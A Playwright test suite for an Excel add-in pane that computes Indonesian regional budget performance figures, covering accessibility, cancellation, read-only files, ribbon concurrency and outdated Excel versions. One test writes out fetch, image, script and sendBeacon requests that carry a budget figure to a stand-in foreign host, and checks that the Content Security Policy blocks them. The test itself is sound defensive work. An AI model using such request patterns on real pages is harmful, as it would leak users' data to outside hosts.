/** The pane on the sample of the report: figures by hand from its tables (74,60 Cukup; Rp 71.099.265.302; 90,15 %). */
import type { Page } from 'playwright-core';
import { apbdSheet } from '../bench/sheets';
import { createWorkbook, startHost } from '../excel-host';
import { openExcelPages } from '../excel-host/office/browser';
import { DARK, eachWindow, type Built } from './eachWindow';
import { faultsOf, scrollsSideways, until, type WindowOptions } from './excelWindow';

export function describePane(built: Built): void {
  const excel = eachWindow(built, false);
  const run = async (page: Page): Promise<void> => {
    await page.getByRole('button', { name: 'Hitung Capaian' }).click();
    await page.getByRole('heading', { name: /^Temuan/ }).waitFor();
  };

  test('the shell is painted before office.js is there', async () => {
    await excel.openWindow();
    await excel.pages.context.route('https://appsforoffice.microsoft.com/**', () => undefined);
    const page = await excel.pages.context.newPage();
    await page.goto('https://localhost:3000/taskpane.html', { waitUntil: 'commit' });
    await page.getByText('Menyiapkan panel…').waitFor();
  });

  test('a run, by keyboard alone: progress, figures, findings by severity; a finding selects its cell', async () => {
    const page = await excel.openPane();
    await page.getByRole('button', { name: 'Hitung Capaian' }).waitFor();
    // Past the seven rooms.
    for (let tabs = 0; tabs < 8; tabs += 1) await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await page.getByRole('progressbar').waitFor();
    await page.getByRole('heading', { name: /^Temuan/ }).waitFor();
    const text = (await page.innerText('main')).replace(/\s+/g, ' ');
    for (const figure of ['74,60%', 'Cukup', '4 dari 4 indikator', 'Rp 71.099.265.302', '90,15%']) expect(text).toContain(figure);
    await page.getByRole('button', { name: 'Lihat temuan' }).focus();
    await page.keyboard.press('Enter');
    await page.getByRole('list', { name: 'Informasi' }).waitFor();
    const groups = await page.locator('h3').allInnerTexts();
    const severities = groups.filter((title) => /^(Galat|Peringatan|Informasi)/.test(title)).map((title) => title.split(' ')[0]);
    expect(severities).toEqual(['Galat', 'Peringatan', 'Informasi'].filter((name) => severities.includes(name)));
    expect(severities.length).toBeGreaterThan(0);

    const finding = page.getByRole('button', { name: / · [A-Z]+\d+/ }).first();
    const [, sheet = '', cell = ''] = /^(.+) · ([A-Z]+\d+)/.exec(await finding.innerText()) ?? [];
    await finding.focus();
    await page.keyboard.press('Enter');
    const { workbook } = excel;
    const columnOf = (letters: string): number => [...letters].reduce((sum, letter) => sum * 26 + letter.charCodeAt(0) - 64, 0) - 1;
    await until(`${sheet}!${cell} selected`, () => workbook.active.name === sheet && workbook.selection.row === Number(cell.replace(/\D/g, '')) - 1 && workbook.selection.column === columnOf(cell.replace(/\d/g, '')));
    expect(excel.pages.refused).toEqual([]);
    expect(excel.pages.errors).toEqual([]);
  });

  test('what is computed on a thread of its own is ended at a press, and nothing is written', async () => {
    const { browser, folder } = built();
    const workbook = createWorkbook({ APBD: apbdSheet(40_000) });
    const host = startHost(workbook, { keepTrace: false });
    excel.take({ workbook, host, pages: await openExcelPages(browser, { folder, host }) });
    const page = await excel.pages.open('taskpane.html');
    await page.getByRole('button', { name: 'Hitung Capaian' }).click();
    await page.getByText('Menghitung…').waitFor();
    expect(page.workers()).toHaveLength(1);
    const requests = host.requests;
    await page.getByRole('button', { name: 'Batalkan' }).click();
    await page.getByText('Dibatalkan', { exact: false }).waitFor();
    await until('the thread is put away', () => page.workers().length === 0);
    // Another thread computes the next, from what still stands there.
    await page.getByRole('button', { name: 'Pratinjau' }).click();
    await page.getByRole('button', { name: /^Tulis/ }).waitFor();
    expect(page.workers()).toHaveLength(1);
    expect(host.requests).toBeGreaterThan(requests);
    expect(workbook.xmlParts).toEqual([]);
    expect(workbook.sheetNamed('APBD').grid('E1:F40').flat().every((cell) => cell === '')).toBe(true);
    expect(excel.pages.errors).toEqual([]);
  });

  test('where no worker may start, the pane computes by itself', async () => {
    const page = await excel.openPane();
    await page.addInitScript(() => Object.assign(window, { Worker: undefined }));
    await page.reload();
    await run(page);
    expect(page.workers()).toHaveLength(0);
    expect((await page.innerText('main')).replace(/\s+/g, ' ')).toContain('74,60%');
  });

  test.each<[look: string, WindowOptions]>([
    ['light', {}],
    ['dark', { external: { theme: DARK } }],
    ['high contrast', { context: { forcedColors: 'active' } }],
  ])('%s: no fault that axe knows, before and after a run, and no scrolling sideways at 320 px', async (_, options) => {
    const page = await excel.openPane(options);
    await page.getByRole('button', { name: 'Hitung Capaian' }).waitFor();
    expect(await faultsOf(page)).toEqual([]);
    await run(page);
    expect(await faultsOf(page)).toEqual([]);
    expect(await scrollsSideways(page)).toBe(false);
    await page.getByRole('button', { name: 'Lihat temuan' }).click();
    await page.getByRole('list', { name: 'Informasi' }).waitFor();
    expect(await faultsOf(page)).toEqual([]);
    expect(await scrollsSideways(page)).toBe(false);
    // Enlarged to twice its size.
    await page.setViewportSize({ width: 160, height: 400 });
    expect(await scrollsSideways(page)).toBe(false);
  });

  test('the findings’ room keeps its place and what was sought while one goes to a cell, and to another room', async () => {
    const page = await excel.openPane();
    await page.getByRole('navigation').getByRole('button', { name: 'Temuan' }).click();
    await page.getByRole('button', { name: 'Periksa tanpa Menulis' }).click();
    await page.getByRole('searchbox', { name: 'Cari temuan' }).fill('apbd');
    const last = page.getByRole('button', { name: / · [A-Z]+\d+/ }).last();
    await last.click();
    const place = (): Promise<number> => page.evaluate(() => window.scrollY);
    const before = await place();
    expect(before).toBeGreaterThan(0);
    await page.evaluate(() => document.querySelector<HTMLElement>('nav button')?.click());
    await page.getByRole('heading', { name: 'Pratinjau' }).waitFor();
    await page.getByRole('button', { name: 'Lihat temuan' }).click();
    expect(await page.getByRole('searchbox').inputValue()).toBe('apbd');
    expect(await last.getAttribute('aria-current')).toBe('true');
    expect(Math.abs((await place()) - before)).toBeLessThan(2);
    expect(excel.workbook.xmlParts).toEqual([]);
  });

  test('two PK that fit: the user chooses in the pane, it is kept in the workbook, and the ribbon obeys', async () => {
    const page = await excel.openPane({ fixture: 'dua-lembar-setara' });
    await run(page);
    await page.getByRole('button', { name: 'Pakai lembar ini: PK (2)' }).click();
    await page.getByText('PK (2) – dipakai').waitFor();
    const { workbook, pages } = excel;
    const chosen = workbook.sheetNamed('PK (2)');
    const filled = JSON.stringify(chosen.grid('A1:Z40'));
    expect(filled).toMatch(/Baik|Cukup|Kurang/);
    expect(JSON.stringify(workbook.sheetNamed('PK').grid('A1:Z40'))).not.toMatch(/Sangat Baik|"Baik"|Cukup|Kurang/);
    await pages.press('commands.html', 'hitungCapaian');
    await until('completed', () => pages.completed === 1);
    expect(pages.dialog).toBeNull();
    expect(JSON.stringify(chosen.grid('A1:Z40'))).toBe(filled);

    await page.getByRole('button', { name: 'Jangan hitung lembar ini: PK (2)' }).click();
    await page.getByRole('button', { name: 'Hitung lagi lembar ini: PK (2)' }).waitFor();
    await page.getByText('PK – dipakai').waitFor();
  });

  test('pane and ribbon pressed at the same moment: both end, and the results stand once', async () => {
    const page = await excel.openPane();
    await page.getByRole('button', { name: 'Hitung Capaian' }).waitFor();
    await Promise.all([run(page), excel.pages.press('commands.html', 'hitungCapaian')]);
    await until('completed', () => excel.pages.completed === 1 || excel.pages.dialog !== null);
    expect(excel.pages.dialog).toBeNull();
    expect(excel.workbook.xmlParts).toHaveLength(2);
  });

  test.each<[what: string, prepare: NonNullable<WindowOptions['prepare']>, reason: string]>([
    ['a read-only workbook', (workbook) => Object.assign(workbook, { readOnly: true }), 'Buku kerja ini hanya dapat dibaca'],
    ['an .xls', (workbook) => Object.assign(workbook, { fileName: 'LKj 2020.xls' }), 'jenis Buku Kerja Excel (.xlsx)'],
    ['an .ods', (workbook) => Object.assign(workbook, { fileName: 'LKj 2020.ods' }), 'OpenDocument (.ods)'],
  ])('%s is computed and shown, not written', async (_, prepare, reason) => {
    const page = await excel.openPane({ prepare });
    await run(page);
    const text = await page.innerText('main');
    expect(text).toContain(reason);
    expect(await faultsOf(page)).toEqual([]);
    expect(text).toContain('74,60%');
    expect(excel.workbook.xmlParts).toEqual([]);
  });

  test.each<[what: string, file: string, sets: Readonly<Record<string, string>>, text: string]>([
    ['the pane in an Excel that is too old', 'taskpane.html', { ExcelApi: '1.12' }, 'Excel terlalu lama'],
    ["the base manifest's page in an Excel that is too old", 'terlalu-lama.html', { ExcelApi: '1.8' }, 'Excel terlalu lama'],
    ["the base manifest's page in an Excel that is not", 'terlalu-lama.html', { ExcelApi: '1.14' }, 'Hitung Capaian'],
  ])('%s', async (_, file, sets, text) => {
    await excel.openWindow({ external: { sets } });
    const page = await excel.pages.open(file);
    await page.getByText(text).first().waitFor();
    expect(await faultsOf(page)).toEqual([]);
    expect(excel.pages.errors).toEqual([]);
  });

  test.each(['taskpane.html', 'commands.html', 'dialog.html'])('fault 59: %s can ask nobody but its own place and office.js: its policy lets no request out', async (file) => {
    await excel.openWindow();
    const page = await excel.pages.open(file);
    const sent = await page.evaluate(async () => {
      const foreign = 'https://contoh.example/sel?nilai=71099265302';
      const loads = (element: HTMLImageElement | HTMLScriptElement | HTMLIFrameElement): Promise<string> =>
        new Promise((resolve) => {
          element.onload = () => resolve('sent');
          element.onerror = () => resolve('kept');
          element.src = foreign;
          document.body.append(element);
        });
      return Promise.all([
        fetch(foreign).then(() => 'sent', () => 'kept'),
        loads(document.createElement('img')),
        loads(document.createElement('script')),
        Promise.resolve(navigator.sendBeacon(foreign, 'x')).then(() => 'tried'),
      ]);
    });
    expect(sent).toEqual(['kept', 'kept', 'kept', 'tried']);
    // Nothing reached the network, and it was the policy that held it back.
    expect(excel.pages.refused).toEqual([]);
    for (const directive of ['connect-src', 'img-src', 'script-src']) expect(excel.pages.errors.some((error) => error.includes(directive))).toBe(true);
  });

  test('without office.js (no network): the pane says so', async () => {
    await excel.openWindow({ context: { locale: 'id-ID' } });
    await excel.pages.context.route('https://appsforoffice.microsoft.com/**', (route) => route.abort());
    const page = await excel.pages.open('taskpane.html');
    await page.getByText('Excel tidak dapat dihubungi').waitFor();
    expect(await faultsOf(page)).toEqual([]);
  });
}
